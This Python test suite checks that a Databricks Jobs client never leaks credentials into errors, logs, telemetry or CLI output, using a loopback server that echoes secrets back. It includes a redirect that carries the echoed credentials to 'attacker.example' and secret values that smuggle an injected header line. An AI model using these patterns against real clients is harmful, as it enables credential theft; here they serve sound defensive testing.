"""The secrets matrix: every credential kind x every error path x every transport combination.

Each cell is one captured run against a real loopback server that echoes every credential it
receives (the Authorization header, the token request's body) into whatever it answers: error
messages, ``x-request-id``, ``WWW-Authenticate``, redirect targets, HTML titles, invalid
status and header lines, malformed token answers. The run makes one GET (retried) and one
POST (not retried: `OutcomeUnknown` on ambiguous failures), and every in-process sink is
searched for every secret in every form it could take: ``str``, ``repr``, the formatted
traceback with its chained causes, contexts and notes (and each of those walked whether
suppressed or not), DEBUG log records of every logger with ``debug_headers`` on, warnings,
the Workspace's and Config's reprs, and every OpenTelemetry span (name, status, attributes,
events and their attributes) and metric point the cell's Workspace recorded through
in-memory providers. Secrets are 4 KiB long, hold non-ASCII characters and
arrive with a trailing line break (a token read from a mounted file); variants hold a line
break inside. The forms searched are the text itself, its UTF-8 bytes' repr, its JSON, URL
(quote and quote_plus), base64 and Latin-1-misread forms, and those of the 9-character unit a
secret repeats, so a leak of any 17 characters in a row is caught too.

The command line (output, ``--debug`` tracebacks and logs) and ``python -m databricks_jobs
config`` are checked on one transport at the end. SECURITY.md states the counts.
"""

from __future__ import annotations

import base64
import contextlib
import json
import logging
import ssl
import stat
import traceback
import warnings
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import anyio
import anyio.abc
import anyio.from_thread
import attrs
import pytest
from click.testing import CliRunner
from opentelemetry.sdk.metrics import MeterProvider
from opentelemetry.sdk.metrics.export import InMemoryMetricReader
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

from databricks_jobs import (
    AccessToken,
    ApiError,
    AuthError,
    BadGateway,
    ConfigError,
    ConnectionFailed,
    DatabricksError,
    DecodeError,
    InternalError,
    OutcomeUnknown,
    PermissionDenied,
    RateLimited,
    RequestTimeout,
    RetryPolicy,
    ServiceUnavailable,
    Timeouts,
    Unauthenticated,
    VirtualClock,
    Workspace,
)
from databricks_jobs.models import JobSettings

# --- the secrets --------------------------------------------------------------------------------

CLIENT_ID = "ap"  # "ap:" is 3 bytes, so base64 of the Basic credential stays aligned on units
SECRET_BYTES = 4096


@attrs.frozen
class Secret:
    """A 4 KiB secret made of one repeated unit, and every form it could leak in."""

    name: str
    unit: str

    @property
    def value(self) -> str:
        count = -(-SECRET_BYTES // len(self.unit.encode()))
        return self.unit * count

    @property
    def given(self) -> str:
        """As read from a mounted secret file: with its line break."""
        return self.value + "\n"

    @property
    def broken(self) -> str:
        """With a line break inside: refused wherever it enters."""
        half = len(self.value) // 2
        return f"{self.value[:half]}\nX-Injected: 1\n{self.value[half:]}"

    def forms(self) -> dict[str, str]:
        """Each way the secret (or one of its units) could be written into a text."""
        found: dict[str, str] = {}
        for label, text in (("whole", self.value), ("unit", self.unit)):
            raw = text.encode()
            found[f"{label}"] = text
            found[f"{label} json"] = json.dumps(text)[1:-1]
            found[f"{label} bytes repr"] = repr(raw)[2:-1]
            found[f"{label} quote"] = quote(text, safe="")
            found[f"{label} quote_plus"] = quote_plus(text)
            found[f"{label} base64"] = base64.b64encode(raw).decode()
            found[f"{label} latin-1"] = raw.decode("latin-1")
        found["basic"] = base64.b64encode(f"{CLIENT_ID}:{self.value}".encode()).decode()
        return found


def _unit(tag: str) -> str:
    unit = f"Zq{tag}é✓"
    while len(unit.encode()) % 3:
        unit += "x"
    return unit


PAT = Secret("pat", _unit("PAT"))
CLIENT_SECRET = Secret("client secret", _unit("CSEC"))
ISSUED = Secret("issued token", _unit("ISSU"))
CLI_TOKEN = Secret("cli token", _unit("CLIT"))
PROVIDED = Secret("provider token", _unit("PROV"))
USERINFO = Secret("userinfo password", _unit("USER"))
SECRETS = (PAT, CLIENT_SECRET, ISSUED, CLI_TOKEN, PROVIDED, USERINFO)
PROBES = [(secret.name, form, text) for secret in SECRETS for form, text in secret.forms().items()]


def leaks(text: str) -> list[str]:
    """Every (secret, form) found in `text`."""
    return [f"{name} ({form})" for name, form, probe in PROBES if probe in text]


def test_the_probes_can_see_a_leak() -> None:
    # The control: each form of each secret is found when present, and the unit probes find a
    # fragment of 17 characters (2 units less one) cut anywhere.
    for secret in SECRETS:
        for form, text in secret.forms().items():
            assert leaks(f"... {text} ..."), (secret.name, form)
        for start in range(len(secret.unit)):
            fragment = secret.value[start : start + 2 * len(secret.unit) - 1]
            assert any(secret.name in found for found in leaks(fragment)), (secret.name, start)
    assert leaks("nothing secret here, not even Zq or é✓") == []


# --- a server that echoes every credential it receives ------------------------------------------

TOKEN_PATH = "/oidc/v1/token"


@attrs.define
class Received:
    method: str
    path: str
    headers: dict[str, str]
    body: str


@attrs.define
class Hostile:
    """Answers each request as the cell's error path says, echoing what it received."""

    path: str
    issued: str = ISSUED.given
    received: list[Received] = attrs.Factory(list)

    def saw(self, secret: str) -> bool:
        """Whether any request carried `secret` (in a header or, Basic-encoded, in one)."""
        basic = base64.b64encode(f"{CLIENT_ID}:{secret}".encode()).decode()
        return any(
            secret in r.headers.get("authorization", "")
            or basic in r.headers.get("authorization", "")
            for r in self.received
        )

    async def serve(self, stream: anyio.abc.SocketStream) -> None:
        if self.path == "drop_before":  # closed before reading a byte of the request
            await stream.aclose()
            return
        buffer = b""
        async with stream:
            while True:
                try:
                    while b"\r\n\r\n" not in buffer:
                        buffer += await stream.receive()
                    head, _, buffer = buffer.partition(b"\r\n\r\n")
                    lines = head.decode("utf-8", "surrogateescape").split("\r\n")
                    method, target, _ = lines[0].split(" ", 2)
                    headers = {}
                    for line in lines[1:]:
                        key, _, value = line.partition(":")
                        headers[key.strip().lower()] = value.strip()
                    length = int(headers.get("content-length", "0"))
                    while len(buffer) < length:
                        buffer += await stream.receive()
                except (anyio.EndOfStream, anyio.BrokenResourceError, ValueError):
                    return
                body, buffer = buffer[:length], buffer[length:]
                request = Received(method, target, headers, body.decode("utf-8", "replace"))
                self.received.append(request)
                answer = await self.answer(request)
                if answer is None:
                    return
                await stream.send(answer)

    async def answer(self, request: Received) -> bytes | None:
        echo = f"{request.headers.get('authorization', '')} {request.body}".strip()
        if request.path.startswith(TOKEN_PATH):
            return self.token_answer(echo)
        path = self.path
        if path == "drop_after":
            return None
        if path == "timeout":
            await anyio.sleep_forever()
        if path == "bad_status_line":
            return f"HTTP/1.1 2x0 {echo}\r\ncontent-length: 0\r\n\r\n".encode()
        if path == "bad_header_line":
            return f"HTTP/1.1 200 OK\r\nX-Echo {echo}\r\ncontent-length: 0\r\n\r\n".encode()
        if path == "not_json_200":
            return response(200, f"you sent {echo}".encode(), content_type="text/plain")
        if path == "redirect":
            return response(302, b"", {"location": f"https://attacker.example/?c={quote(echo)}"})
        if path == "502":
            page = f"<html><head><title>502 {echo}</title></head></html>".encode()
            return response(502, page, content_type="text/html", request_id=echo)
        status, code = API_ERRORS.get(path, (200, None))
        if code is None:
            return response(200, b'{"job_id": 1, "settings": {"name": "ok"}}')
        extra = {"retry-after": "0"} if status in (429, 503) else {}
        if status == 401:
            extra["www-authenticate"] = f'Bearer error="invalid_token", echo="{echo}"'
        body = json.dumps({"error_code": code, "message": f"refused {echo}"}).encode()
        return response(status, body, extra, request_id=echo)

    def token_answer(self, echo: str) -> bytes:
        good = {"access_token": self.issued, "token_type": "Bearer", "expires_in": 3600}
        answers: dict[str, tuple[int, Any]] = {
            "token_401": (401, {"error": "invalid_client", "error_description": echo}),
            "token_500": (500, {"error_code": "INTERNAL_ERROR", "message": echo}),
            "token_not_json": (200, f"access_token={echo}"),
            "token_html": (200, f"<html><title>Sign in {echo}</title></html>"),
            "token_no_expires_in": (200, {"access_token": self.issued}),
            "token_bad_expires_in": (200, {"access_token": self.issued, "expires_in": echo}),
            "token_null": (200, {"access_token": None, "expires_in": 3600, "echo": echo}),
            "token_empty": (200, {"access_token": "", "expires_in": 3600, "echo": echo}),
            "token_error_200": (200, {"error": "invalid_client", "error_description": echo}),
            "token_control_char": (200, {**good, "access_token": ISSUED.broken}),
        }
        status, payload = answers.get(self.path, (200, good))
        if isinstance(payload, str):
            kind = "text/html" if payload.startswith("<") else "text/plain"
            return response(status, payload.encode(), content_type=kind, request_id=echo)
        return response(status, json.dumps(payload).encode(), request_id=echo)


API_ERRORS = {
    "401": (401, "UNAUTHENTICATED"),
    "403": (403, "PERMISSION_DENIED"),
    "429": (429, "REQUEST_LIMIT_EXCEEDED"),
    "500": (500, "INTERNAL_ERROR"),
    "503": (503, "TEMPORARILY_UNAVAILABLE"),
}


def response(
    status: int,
    body: bytes,
    headers: dict[str, str] | None = None,
    *,
    content_type: str = "application/json",
    request_id: str | None = None,
) -> bytes:
    """Raw bytes of an HTTP/1.1 response (header values may hold any echoed text)."""
    fields = {"content-type": content_type, **(headers or {})}
    if request_id is not None:
        fields["x-request-id"] = request_id.replace("\r", " ").replace("\n", " ")
    fields["content-length"] = str(len(body))
    head = f"HTTP/1.1 {status} Whatever\r\n" + "".join(f"{k}: {v}\r\n" for k, v in fields.items())
    return (head + "\r\n").encode() + body


@contextlib.asynccontextmanager
async def hostile_server(hostile: Hostile) -> AsyncIterator[str]:
    """Serve `hostile` on 127.0.0.1 in the current event loop; yield its URL."""
    listener = await anyio.create_tcp_listener(local_host="127.0.0.1", local_port=0)
    port = listener.extra(anyio.abc.SocketAttribute.local_port)

    async def serve_one(stream: anyio.abc.SocketStream) -> None:
        with contextlib.suppress(anyio.BrokenResourceError, anyio.ClosedResourceError):
            await hostile.serve(stream)

    async with anyio.create_task_group() as group:
        group.start_soon(listener.serve, serve_one)
        try:
            yield f"http://127.0.0.1:{port}"
        finally:
            group.cancel_scope.cancel()
    await listener.aclose()


async def refused_url() -> str:
    """A loopback URL nothing listens on."""
    listener = await anyio.create_tcp_listener(local_host="127.0.0.1", local_port=0)
    port = listener.extra(anyio.abc.SocketAttribute.local_port)
    await listener.aclose()
    return f"http://127.0.0.1:{port}"


# --- the cells ----------------------------------------------------------------------------------

API_PATHS = [
    "refused",
    "drop_before",
    "drop_after",
    "401",
    "403",
    "429",
    "500",
    "502",
    "503",
    "timeout",
    "bad_status_line",
    "bad_header_line",
    "not_json_200",
    "redirect",
]
"""Error paths of the API request itself, for every credential kind."""

SOURCE_PATHS = {
    "pat": ["control_char"],
    "oauth": [
        "control_char",
        "token_control_char",
        "token_401",
        "token_500",
        "token_not_json",
        "token_html",
        "token_no_expires_in",
        "token_bad_expires_in",
        "token_null",
        "token_empty",
        "token_error_200",
    ],
    "cli": ["cli_control_char", "cli_not_json", "cli_null", "cli_empty", "cli_fails"],
    "provider": ["provider_control_char", "provider_none", "provider_empty", "provider_raises"],
    "userinfo": ["userinfo"],
}
"""Paths of where each kind's credential comes from: refused where it enters (control_char),
or a token source answering badly (the token endpoint, the CLI, the provider)."""

CELLS = [
    (kind, path)
    for kind, own in SOURCE_PATHS.items()
    for path in ([] if kind == "userinfo" else API_PATHS) + own
]
COMBOS = [("asyncio", "aiohttp"), ("asyncio", "httpx"), ("trio", "httpx")]
TLS = ssl.create_default_context()  # never used (the server is plain http on loopback)

# What each call raises, per path: (GET, POST). Token-source failures come before sending.
EXPECTED: dict[str, tuple[tuple[type[DatabricksError], ...], tuple[type[DatabricksError], ...]]]
EXPECTED = {
    "refused": ((ConnectionFailed,), (ConnectionFailed,)),
    "drop_before": ((ConnectionFailed,), (ConnectionFailed, OutcomeUnknown)),
    "drop_after": ((ConnectionFailed,), (OutcomeUnknown,)),
    "401": ((Unauthenticated,), (Unauthenticated,)),
    "403": ((PermissionDenied,), (PermissionDenied,)),
    "429": ((RateLimited,), (RateLimited,)),
    "500": ((InternalError,), (OutcomeUnknown,)),
    "502": ((BadGateway,), (OutcomeUnknown,)),
    "503": ((ServiceUnavailable,), (ServiceUnavailable,)),
    "timeout": ((RequestTimeout,), (OutcomeUnknown,)),
    "bad_status_line": ((ConnectionFailed,), (OutcomeUnknown,)),
    "bad_header_line": ((ConnectionFailed,), (OutcomeUnknown,)),
    "not_json_200": ((DecodeError,), (DecodeError,)),
    "redirect": ((ApiError,), (ApiError,)),
    "token_401": ((Unauthenticated,), (Unauthenticated,)),
    "token_500": ((InternalError,), (InternalError,)),
    "cli_fails": ((ConfigError,), (ConfigError,)),
}
"""Anything else raises `AuthError` for both calls (a token source answered badly)."""
REFUSED_AT_CONSTRUCTION = {"control_char", "userinfo"}


def write_cli(tmp_path: Path, path: str) -> str:
    """A stand-in for `databricks auth token` (a shell script: fast to start)."""
    answers = {
        "cli_control_char": json.dumps({"access_token": CLI_TOKEN.broken}),
        "cli_not_json": CLI_TOKEN.value,
        "cli_null": json.dumps({"access_token": None}),
        "cli_empty": json.dumps({"access_token": ""}),
    }
    printed = answers.get(
        path, json.dumps({"access_token": CLI_TOKEN.given, "expiry": "2999-01-01T00:00:00Z"})
    )
    script = tmp_path / "databricks"
    if path == "cli_fails":
        script.write_text("#!/bin/sh\necho 'Error: not logged in' >&2\nexit 1\n")
    else:
        script.write_text(f"#!/bin/sh\ncat <<'EOF'\n{printed}\nEOF\n", encoding="utf-8")
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    return str(script)


def provider_for(path: str) -> Any:
    async def provider() -> object:
        if path == "provider_raises":
            raise RuntimeError("the vault did not answer")
        return {
            "provider_control_char": AccessToken(PROVIDED.broken, expires_in=600),
            "provider_none": None,
            "provider_empty": AccessToken("  \n", expires_in=600),
        }.get(path, AccessToken(PROVIDED.given, expires_in=600))

    return provider


def options_for(kind: str, path: str, url: str, tmp_path: Path) -> dict[str, Any]:
    """The Workspace arguments of a cell (credentials as arguments; the CLI tests use env)."""
    broken = path == "control_char"
    if kind == "pat":
        return {"host": url, "token": PAT.broken if broken else PAT.given}
    if kind == "oauth":
        secret = CLIENT_SECRET.broken if broken else CLIENT_SECRET.given
        return {"host": url, "client_id": CLIENT_ID, "client_secret": secret}
    if kind == "cli":
        cli = write_cli(tmp_path, path)
        return {"host": url, "auth_type": "databricks-cli", "databricks_cli_path": cli}
    if kind == "provider":
        return {"host": url, "token_provider": provider_for(path)}
    netloc = url.removeprefix("http://")
    return {"host": f"http://zUser:{USERINFO.given.strip()}@{netloc}", "token": PAT.given}


@attrs.define
class Capture:
    """Everything a cell's run showed, and what it raised."""

    texts: list[str] = attrs.Factory(list)
    raised: list[BaseException] = attrs.Factory(list)
    telemetry: list[str] = attrs.Factory(list)

    def error(self, error: BaseException) -> None:
        self.raised.append(error)
        self.texts.append(chain_texts(error))


def chain_texts(error: BaseException) -> str:
    """str, repr, the formatted traceback (chain and notes), and every link walked by hand."""
    texts = ["".join(traceback.format_exception(error))]
    seen: list[BaseException] = []
    pending: list[BaseException | None] = [error]
    while pending:
        current = pending.pop()
        if current is None or any(current is s for s in seen):
            continue
        seen.append(current)
        texts += [str(current), repr(current), *getattr(current, "__notes__", [])]
        pending += [current.__cause__, current.__context__, getattr(current, "error", None)]
        pending += list(getattr(current, "exceptions", ()))
    return "\n".join(texts)


class Telemetry:
    """In-memory OpenTelemetry providers given to a cell's Workspace: spans and metrics."""

    def __init__(self) -> None:
        self.spans = InMemorySpanExporter()
        self.tracer_provider = TracerProvider()
        self.tracer_provider.add_span_processor(SimpleSpanProcessor(self.spans))
        self.reader = InMemoryMetricReader()
        self.meter_provider = MeterProvider(metric_readers=[self.reader])

    def texts(self) -> list[str]:
        """Every span's name, status, attributes and events (with theirs), every metric point."""
        texts = []
        for span in self.spans.get_finished_spans():
            texts += [span.name, str(span.status.description), repr(dict(span.attributes or {}))]
            for event in span.events:
                texts += [event.name, repr(dict(event.attributes or {}))]
                texts += [str(value) for value in (event.attributes or {}).values()]
            texts += [str(value) for value in (span.attributes or {}).values()]
        data = self.reader.get_metrics_data()
        for resource in data.resource_metrics if data else ():
            for scope in resource.scope_metrics:
                for metric in scope.metrics:
                    texts += [repr(dict(p.attributes or {})) for p in metric.data.data_points]
        return texts


async def run_cell(kind: str, path: str, transport: str, tmp_path: Path) -> tuple[Capture, Hostile]:
    capture = Capture()
    hostile = Hostile(path)
    telemetry = Telemetry()
    async with contextlib.AsyncExitStack() as stack:
        if path == "refused":
            url = await refused_url()
        else:
            url = await stack.enter_async_context(hostile_server(hostile))
        read = 0.02 if path == "timeout" else 60.0  # the one cell that waits, briefly
        try:
            ws = Workspace(
                transport=transport,
                clock=VirtualClock(),
                # 2 s of the virtual clock: a 429 (retried until the budget, advised 0 s,
                # waited 0.5 s) is sent five times, not for the default 120 s.
                retry=RetryPolicy(attempts=2, budget=2),
                timeouts=Timeouts(read=read),
                env={"DATABRICKS_DEBUG_HEADERS": "true"},
                verify=TLS,  # loading the CA bundle per cell would take a third of the time
                tracer_provider=telemetry.tracer_provider,
                meter_provider=telemetry.meter_provider,
                **options_for(kind, path, url, tmp_path),
            )
        except DatabricksError as refused:
            capture.error(refused)
            return capture, hostile
        capture.texts += [repr(ws), repr(ws.config), str(ws.config), str(ws.config.describe())]
        async with ws:
            for call in (lambda: ws.jobs.get(1), lambda: ws.jobs.create(JobSettings(name="x"))):
                try:
                    await call()
                except Exception as exc:
                    capture.error(exc)
    spans = telemetry.spans.get_finished_spans()
    assert len(spans) >= 2, "both calls were traced"
    capture.telemetry = telemetry.texts()
    return capture, hostile


@pytest.mark.parametrize(("anyio_backend", "transport"), COMBOS, ids=[t for _, t in COMBOS])
@pytest.mark.parametrize(("kind", "path"), CELLS, ids=[f"{k}-{p}" for k, p in CELLS])
def test_cell(
    anyio_backend: str,
    transport: str,
    kind: str,
    path: str,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)  # every logger: ours, httpx, httpcore, aiohttp, asyncio
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        capture, hostile = anyio.run(
            run_cell, kind, path, transport, tmp_path, backend=anyio_backend
        )
    texts = [*capture.texts, *capture.telemetry, logged(caplog), *(str(w.message) for w in caught)]
    found = leaks("\n".join(texts))
    assert found == [], f"{kind} x {path} on {transport}/{anyio_backend}: {found}"

    # The cell ran its path: what was raised, and that the secret was really in play.
    assert all(isinstance(error, DatabricksError) for error in capture.raised)
    if path in REFUSED_AT_CONSTRUCTION:
        assert [type(e) for e in capture.raised] == [ConfigError]
        assert hostile.received == []
        return
    get_types, post_types = EXPECTED.get(path, ((AuthError,), (AuthError,)))
    assert len(capture.raised) == 2, capture.raised
    assert isinstance(capture.raised[0], get_types), (capture.raised[0], get_types)
    assert isinstance(capture.raised[1], post_types), (capture.raised[1], post_types)
    in_play = {"pat": PAT, "oauth": CLIENT_SECRET, "cli": CLI_TOKEN, "provider": PROVIDED}
    server_reached = path not in ("refused", "drop_before") and (
        kind == "oauth" or path in API_PATHS
    )
    if server_reached:
        assert hostile.saw(in_play[kind].value), "the credential never reached the server"
    if path in API_PATHS and path not in ("refused", "drop_before") and kind == "oauth":
        assert hostile.saw(ISSUED.value)
    if server_reached and path in ("401", "403", "500"):
        assert "****" in capture.texts[-1]  # the echo was there, and masked
        assert "****" in "\n".join(capture.telemetry)  # in the request id on the span too
    if path in API_PATHS and server_reached:
        assert "'****'" in caplog.text or "****" in caplog.text  # headers logged, masked


def logged(caplog: pytest.LogCaptureFixture) -> str:
    """Every log record, formatted with its traceback, but httpcore's response-header records.

    httpcore writes response headers as the server sent them, so a server that echoes a
    credential into a header shows it there (SECURITY.md says so; aiohttp logs no headers).
    """
    handler = logging.Handler()
    handler.setFormatter(logging.Formatter("%(name)s %(levelname)s %(message)s"))
    return "\n".join(
        handler.format(record)
        for record in caplog.records
        if not (
            record.name == "httpcore.http11"
            and record.getMessage().startswith("receive_response_headers.complete")
        )
    )


def test_matrix_counts() -> None:
    # SECURITY.md states these numbers; keep them in step.
    assert len(API_PATHS) == 14
    assert {kind: len(paths) for kind, paths in SOURCE_PATHS.items()} == {
        "pat": 1, "oauth": 11, "cli": 5, "provider": 4, "userinfo": 1,
    }  # fmt: skip
    assert len(CELLS) == 78
    assert len(CELLS) * len(COMBOS) == 234


# --- the command line and `python -m databricks_jobs config`, on one transport -----------------


@contextlib.contextmanager
def hostile_in_thread(hostile: Hostile) -> Iterator[str]:
    """Serve `hostile` from a thread with its own event loop (the CLI runs its own)."""
    with (
        anyio.from_thread.start_blocking_portal("asyncio") as portal,
        portal.wrap_async_context_manager(hostile_server(hostile)) as url,
    ):
        yield url


CLI_ERRORS = {
    "401": "Unauthenticated",
    "403": "PermissionDenied",
    "500": "InternalError",
    "drop_after": "ConnectionFailed",
    "bad_status_line": "ConnectionFailed",
    "not_json_200": "DecodeError",
    "redirect": "ApiError",
    "control_char": "ConfigError",
    "token_error_200": "AuthError",
}
"""The error line of `jobs get` per path (the command line's one-line form)."""


CLI_CELLS = [
    (kind, path)
    for path in CLI_ERRORS
    for kind in ("pat", "oauth")
    if kind == "oauth" or not path.startswith("token_")
]


@pytest.mark.parametrize(("kind", "path"), CLI_CELLS, ids=[f"{k}-{p}" for k, p in CLI_CELLS])
@pytest.mark.parametrize("debug", [False, True], ids=["plain", "debug"])
def test_cli_output_and_debug(
    kind: str, path: str, debug: bool, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    from databricks_jobs.cli._app import cli

    caplog.set_level(logging.DEBUG)
    hostile = Hostile(path)
    with hostile_in_thread(hostile) as url:
        env: dict[str, str | None] = {
            "DATABRICKS_HOST": url,
            "DATABRICKS_CONFIG_FILE": str(tmp_path / "none.cfg"),
            "DATABRICKS_CONFIG_PROFILE": None,
            "DATABRICKS_TOKEN": None,
            "DATABRICKS_CLIENT_ID": None,
            "DATABRICKS_CLIENT_SECRET": None,
            "DATABRICKS_AUTH_TYPE": None,
            "DATABRICKS_DEBUG_HEADERS": "true",
            "DATABRICKS_RETRY_TIMEOUT_SECONDS": "0",  # the CLI waits in real time: no retries
        }
        broken = path == "control_char"
        if kind == "pat":
            env["DATABRICKS_TOKEN"] = PAT.broken if broken else PAT.given
        else:
            env["DATABRICKS_CLIENT_ID"] = CLIENT_ID
            env["DATABRICKS_CLIENT_SECRET"] = (
                CLIENT_SECRET.broken if broken else CLIENT_SECRET.given
            )
        args = ["--debug"] if debug else []
        outputs: list[str] = []
        for command in (["jobs", "get", "1"], ["jobs", "create", "-"]):
            runner = CliRunner()
            result = runner.invoke(cli, [*args, *command], env=env, input='{"name": "x"}')
            outputs.append(result.output)
            assert result.exit_code != 0, result.output
            assert "error: " in result.output
            if debug:
                assert "Traceback" in result.output
    found = leaks("\n".join([*outputs, logged(caplog)]))
    assert found == [], f"{kind} x {path} (debug={debug}): {found}"
    assert f"error: {CLI_ERRORS[path]}" in outputs[0]  # the path really ran
    if not broken:
        assert hostile.received, "the server was reached"


@pytest.mark.parametrize(
    ("env", "expected"),
    [
        ({"DATABRICKS_TOKEN": PAT.given}, "token: ****  (env DATABRICKS_TOKEN)"),
        ({"DATABRICKS_TOKEN": PAT.broken}, "token (env DATABRICKS_TOKEN) contains a control"),
        (
            {"DATABRICKS_CLIENT_ID": CLIENT_ID, "DATABRICKS_CLIENT_SECRET": CLIENT_SECRET.given},
            "client_secret: ****  (env DATABRICKS_CLIENT_SECRET)",
        ),
        (
            {"DATABRICKS_CLIENT_ID": CLIENT_ID, "DATABRICKS_CLIENT_SECRET": CLIENT_SECRET.broken},
            "client_secret (env DATABRICKS_CLIENT_SECRET) contains a control",
        ),
        (
            {
                "DATABRICKS_HOST": f"https://zUser:{USERINFO.value}@h.example.com",
                "DATABRICKS_TOKEN": PAT.given,
            },
            "holds a user name or password",
        ),
    ],
    ids=["pat", "pat-broken", "secret", "secret-broken", "userinfo"],
)
def test_python_m_config(
    env: dict[str, str],
    expected: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    from databricks_jobs.__main__ import main

    caplog.set_level(logging.DEBUG)
    for name in ("DATABRICKS_HOST", "DATABRICKS_TOKEN", "DATABRICKS_CLIENT_ID",
                 "DATABRICKS_CLIENT_SECRET", "DATABRICKS_CONFIG_PROFILE"):  # fmt: skip
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DATABRICKS_CONFIG_FILE", str(tmp_path / "none.cfg"))
    monkeypatch.setenv("DATABRICKS_HOST", "https://h.example.com")
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    main(["config"])
    shown = capsys.readouterr()
    assert expected in shown.out
    assert leaks(shown.out + shown.err + logged(caplog)) == []


def test_python_m_config_never_shows_an_implicit_profile_token(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from databricks_jobs.__main__ import main

    path = tmp_path / "cfg"
    path.write_text(f"[DEFAULT]\nhost = https://d.example.com\ntoken = {PAT.value}\n")
    for name in ("DATABRICKS_TOKEN", "DATABRICKS_CLIENT_ID", "DATABRICKS_CONFIG_PROFILE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("DATABRICKS_CONFIG_FILE", str(path))
    monkeypatch.setenv("DATABRICKS_HOST", "https://other.example.com")
    assert main(["config"]) == 2
    shown = capsys.readouterr().out
    assert "no credentials" in shown
    assert leaks(shown) == []
